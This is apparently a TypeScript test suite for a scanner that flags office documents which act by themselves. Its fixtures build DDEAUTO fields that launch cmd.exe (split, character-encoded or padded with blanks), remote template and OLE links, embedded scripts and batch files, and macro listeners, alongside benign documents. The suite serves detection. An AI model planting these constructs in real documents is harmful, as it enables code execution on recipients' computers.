// Documents of office programs that would act by themselves, however that is hidden, and what is everyday in them.
import { describe, expect, it } from 'vitest';
import { judge } from './paper-judge.js';
import * as real from './real-files.js';
import * as make from './samples.js';

describe('an office document that would act by itself', () => {
  const types = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const points = (type: string, target: string, more = 'TargetMode="External"') =>
    `<Relationships><Relationship Id="r" Type="${types}/${type}" Target="${target}" ${more}/></Relationships>`;
  const wide = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
  const word = (body: string) =>
    make.docx({ 'word/document.xml': `<w:document><w:body>${body}</w:body></w:document>` });
  const field = (...runs: string[]) =>
    `<w:p><w:fldChar/>${runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`).join('')}<w:fldChar/></w:p>`;
  const content = (body: string) => `<office:document-content>${body}</office:document-content>`;
  const listener = 'xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"';
  const odt = (part: string | Buffer) => real.openDocument('text', { 'content.xml': part });
  const native = (name: string, body: Buffer) =>
    real.compound({
      '\u0001Ole10Native': Buffer.concat([Buffer.from(`xxxx\u0002\0${name}\0`, 'latin1'), Buffer.alloc(200), body]),
    });
  const embeds = (name: string, bytes: Buffer | string) => make.docx({ [`word/embeddings/${name}`]: bytes });

  const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
  const says = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
  /** A field with whatever stands in it. */
  const whole = (...inside: string[]) => `${mark('begin')}${inside.join('')}${mark('end')}`;
  const rtf = (body: string) => make.docx({ 'word/afchunk.rtf': `{\\rtf1 ${body}}` });
  const connection = (more: string) =>
    make.xlsx({
      'xl/connections.xml': `<connections><connection id="1"${more}><webPr url="http://a/x"/></connection></connections>`,
    });
  const dde = '<w:document><w:body><w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/></w:body></w:document>';
  const typed = (name: string, type: string) =>
    make
      .contentTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml')
      .replace('</Types>', `<Override PartName="/${name}" ContentType="${type}"/></Types>`);

  it.each<[string, () => Promise<Buffer>, string, string]>([
    ...[0, 60, 70, 100_000].flatMap((blanks): [string, () => Promise<Buffer>, string, string][] => [
      [
        `a call behind ${blanks} blanks`,
        () => make.docx({ 'word/document.xml': `${' '.repeat(blanks)}${dde}` }),
        'a.docx',
        'active-call',
      ],
      [
        `a macro called behind ${blanks} lines`,
        () => odt(`${'\n'.repeat(blanks)}${content(`<s:event-listener ${listener} x="y"/>`)}`),
        'a.odt',
        'macro',
      ],
      [
        `a template from elsewhere behind ${blanks} blanks, in UTF-16`,
        () =>
          make.docx({
            'word/_rels/settings.xml.rels': wide(
              `${' '.repeat(blanks)}${points('attachedTemplate', 'http://a/x.dotm')}`,
            ),
          }),
        'a.docx',
        'active-fetch',
      ],
      [
        `a page with a script behind ${blanks} blanks, under any name`,
        () => make.docx({ 'word/a.bin': `${' '.repeat(blanks)}<html><script>x</script>` }),
        'a.docx',
        'active-call',
      ],
    ]),
    [
      'a call in a part that begins with something else',
      () => make.docx({ 'word/footer1.xml': `x${dde}` }),
      'a.docx',
      'active-call',
    ],
    [
      'a call in a part that only the list calls XML',
      () => make.docx({ '[Content_Types].xml': typed('word/a.bin', 'application/x+xml'), 'word/a.bin': `x${dde}` }),
      'a.docx',
      'active-call',
    ],
    [
      'a field named by two others',
      () =>
        word(whole(says(' '), whole(says('QUOTE 68 68')), whole(says('QUOTE 69 65 85 84 79')), says(' c:\\cmd.exe'))),
      'a.docx',
      'active-call',
    ],
    [
      'a field named by another one',
      () => word(whole(whole(says('DOCPROPERTY a')), says(' c:\\cmd.exe'))),
      'a.docx',
      'active-call',
    ],
    [
      'a field whose name another one ends',
      () => word(whole(says(' dde'), whole(says('QUOTE 65 85')), says(' c:\\cmd.exe'))),
      'a.docx',
      'active-call',
    ],
    [
      'a field named by a short one',
      () => word(whole('<w:fldSimple w:instr="QUOTE 68 68"/>', says(' c:\\cmd.exe'))),
      'a.docx',
      'active-call',
    ],
    [
      'a field whose name goes on in the next paragraph',
      () => word(`<w:p>${mark('begin')}${says('DD')}</w:p><w:p>${says('EAUTO c:\\cmd.exe')}${mark('end')}</w:p>`),
      'a.docx',
      'active-call',
    ],
    [
      'a field named behind blanks without end',
      () => word(whole(says(' '.repeat(5_000)), says(' '), says('DDEAUTO c:\\cmd.exe'))),
      'a.docx',
      'active-call',
    ],
    [
      'a linked object in RTF',
      () => rtf('{\\object\\objautlink\\objupdate{\\*\\objdata 01}}'),
      'a.docx',
      'active-fetch',
    ],
    ['a template in RTF', () => rtf('{\\*\\template http://a/x.dotm}'), 'a.docx', 'active-fetch'],
    ['a call in RTF', () => rtf("{\\field{\\*\\fldinst {D}\\b D{\\'45}AUTO c:\\\\cmd.exe}}"), 'a.docx', 'active-call'],
    ['a connection brought up to date on opening', () => connection(' refreshOnLoad="1"'), 'a.xlsx', 'active-fetch'],
    [
      'a macro called under another prefix',
      () => odt(content(`<s:event-listener ${listener} x="y"/>`)),
      'a.odt',
      'macro',
    ],
    ['a macro called in references', () => odt(content('<a x:href="vnd.sun.star&#46;script:x"/>')), 'a.odt', 'macro'],
    ['a macro called in UTF-16', () => odt(wide(content('<a x:href="vnd.sun.star.script:x"/>'))), 'a.odt', 'macro'],
    [
      'a macro called by words of its own',
      () => odt(`<!DOCTYPE a [<!ENTITY b "script:x">]>${content('&b;')}`),
      'a.odt',
      'damaged',
    ],
    ['data asked of a program', () => odt(content('<text:dde-connection-decl/>')), 'a.odt', 'active-call'],
    ['an object from elsewhere', () => odt(content('<draw:object x:href="http://a/b.odt"/>')), 'a.odt', 'active-fetch'],
    [
      'a template from elsewhere',
      () => make.docx({ 'word/_rels/settings.xml.rels': points('attachedTemplate', 'http://a/x.dotm') }),
      'a.docx',
      'active-fetch',
    ],
    [
      'a template from another computer',
      () => make.docx({ 'word/_rels/settings.xml.rels': points('attachedTemplate', '\\\\a\\x.dotx') }),
      'a.docx',
      'active-fetch',
    ],
    [
      'the same in UTF-16 and references',
      () =>
        make.docx({
          'word/_rels/settings.xml.rels': wide(
            points('attachedTemplate', '&#104;ttp://a/x.dotm', "TargetMode='Exter&#110;al'"),
          ),
        }),
      'a.docx',
      'active-fetch',
    ],
    [
      'an object from elsewhere',
      () => make.docx({ 'word/_rels/document.xml.rels': points('oleObject', 'mhtml:http://a/x.html!x') }),
      'a.docx',
      'active-fetch',
    ],
    [
      'a frame from elsewhere',
      () => make.xlsx({ 'xl/_rels/workbook.xml.rels': points('frame', 'https://a/x') }),
      'a.xlsx',
      'active-fetch',
    ],
    [
      'slides with an object from elsewhere',
      () => real.pptx({ 'ppt/slides/_rels/slide1.xml.rels': points('oleObject', 'http://a/x') }),
      'a.pptx',
      'active-fetch',
    ],
    ['a program called by a field', () => word(field('DDEAUTO c:\\cmd.exe "/k calc"')), 'a.docx', 'active-call'],
    ['the same in pieces', () => word(field(' DD', 'E&#65;UTO c:\\cmd.exe')), 'a.docx', 'active-call'],
    ['the same in numbers', () => word(field('QUOTE 68 68 69 65 85 84 79', ' cmd')), 'a.docx', 'active-call'],
    ['the same in one word', () => word('<w:fldSimple w:instr="DDE cmd x"/>'), 'a.docx', 'active-call'],
    [
      'a workbook that calls a program',
      () =>
        make.xlsx({ 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }),
      'a.xlsx',
      'active-call',
    ],
    ['a script put into it', () => embeds('a.js', 'WScript.Shell'), 'a.docx', 'program'],
    ['a batch file put into it', () => embeds('b.BAT', 'calc'), 'a.docx', 'program'],
    ['a page with programs put into it', () => embeds('b.hta', '<x/>'), 'a.docx', 'program'],
    ['a program in an object', () => embeds('oleObject1.bin', native('a.txt', make.exe())), 'a.docx', 'program'],
    [
      'a program in a broken object',
      () =>
        embeds(
          'oleObject1.bin',
          Buffer.concat([Buffer.from('D0CF11E0A1B11AE1', 'hex'), Buffer.alloc(600), make.exe()]),
        ),
      'a.docx',
      'program',
    ],
    [
      'a script in an object',
      () => embeds('oleObject1.bin', native('a.ps1', Buffer.from('calc'))),
      'a.docx',
      'program',
    ],
    [
      'macros in a document in it',
      async () => embeds('x.docx', await make.docx({ 'word/vbaProject.bin': 'x' })),
      'a.docx',
      'macro',
    ],
    [
      'the same in LibreOffice',
      async () => real.openDocument('text', { 'Object 1': await make.xlsx({ 'xl/vbaProject.bin': 'x' }) }),
      'a.odt',
      'macro',
    ],
    [
      'macros of 97 in a document in it',
      async () => embeds('x.bin', real.xls({ more: real.project('_VBA_PROJECT_CUR') })),
      'a.docx',
      'macro',
    ],
    [
      'a page with a script',
      () => make.docx({ 'word/afchunk.mht': '<html><script>x</script>' }),
      'a.docx',
      'active-call',
    ],
    [
      'a packed page with a script',
      () =>
        make.docx({
          'word/a.mht': `MIME-Version: 1.0\nContent-Transfer-Encoding: base64\n\n${Buffer.from('<p><script>x</script>').toString('base64')}\n`,
        }),
      'a.docx',
      'active-call',
    ],
  ])('%s', async (_what, bytes, name, verdict) => {
    expect(await judge(await bytes(), name)).toBe(verdict);
  });

  it.each<[string, () => Promise<Buffer>, string]>([
    ['a link', () => make.docx({ 'word/_rels/document.xml.rels': points('hyperlink', 'http://a/b') }), 'a.docx'],
    [
      'a linked picture',
      () => make.docx({ 'word/_rels/document.xml.rels': points('image', 'https://a/b.png') }),
      'a.docx',
    ],
    [
      'a template of one’s own',
      () =>
        make.docx({
          'word/_rels/settings.xml.rels': points('attachedTemplate', 'file:///C:\\Users\\a\\Cong van.dotx'),
        }),
      'a.docx',
    ],
    [
      'another workbook of one’s own',
      () =>
        make.xlsx({
          'xl/externalLinks/_rels/externalLink1.xml.rels': points('externalLinkPath', 'file:///D:/So lieu.xlsx'),
        }),
      'a.xlsx',
    ],
    [
      'a film in slides',
      () => real.pptx({ 'ppt/slides/_rels/slide1.xml.rels': points('video', 'phim.mp4') }),
      'a.pptx',
    ],
    [
      'a field that asks another one',
      () =>
        word(
          whole(says(' IF '), whole(says('PAGE')), says(' = '), whole(says('NUMPAGES')), says(' "a" "b"')) +
            whole(says('='), whole(says('PAGE')), says('+1')) +
            whole(
              says(' TOC \\o '),
              mark('separate'),
              whole(says(' HYPERLINK "http://a" '), mark('separate'), '<w:r><w:t>DDE</w:t></w:r>'),
            ),
        ),
      'a.docx',
    ],
    ['text in RTF', () => rtf('{\\field{\\*\\fldinst PAGE}} B\\u225?o c\\u225?o \\par'), 'a.docx'],
    ['a connection somebody brings up to date', () => connection(' refreshOnLoad="0"'), 'a.xlsx'],
    ['blanks before its text', () => make.docx({ 'word/footer1.xml': `${' '.repeat(500)}<w:ftr/>` }), 'a.docx'],
    ['fields', () => word(field(' PAGE ') + field(' DATE \\@ "dd/MM" ') + field('HYPERLINK "http://a"')), 'a.docx'],
    [
      'words about such things',
      () => word('<w:p><w:t>DDEAUTO &lt;script&gt; vnd.sun.star.script:</w:t></w:p>'),
      'a.docx',
    ],
    ['a workbook in it', async () => embeds('Sheet1.xlsx', await make.xlsx()), 'a.docx'],
    ['an object of 97 in it', async () => embeds('oleObject1.bin', real.xls()), 'a.docx'],
    ['a document put into it', async () => embeds('oleObject1.bin', native('phu-luc.pdf', make.pdf())), 'a.docx'],
    [
      'a page without a script',
      () => make.docx({ 'word/afchunk.htm': '<html><p onclick>Báo cáo</p></html>' }),
      'a.docx',
    ],
    [
      'a step to the next slide',
      () => real.openDocument('presentation', { 'content.xml': content('<presentation:event-listener x="y"/>') }),
      'a.odp',
    ],
    [
      'words of LibreOffice',
      () =>
        odt(
          `<!DOCTYPE office:document-content PUBLIC "-//A//B" "office.dtd">${content('<a x:href="Pictures/1.png"/>')}`,
        ),
      'a.odt',
    ],
    ['text in UTF-16', () => odt(wide(content('Báo cáo'))), 'a.odt'],
    ['long text', () => odt(content('<p a="1>2">Báo &amp; cáo</p><!-- < -->'.repeat(20_000))), 'a.odt'],
  ])('but %s is everyday', async (_what, bytes, name) => {
    expect(await judge(await bytes(), name)).toMatch(/^(?:DOCX|XLSX|PPTX|ODT|ODP)$/);
  });
});
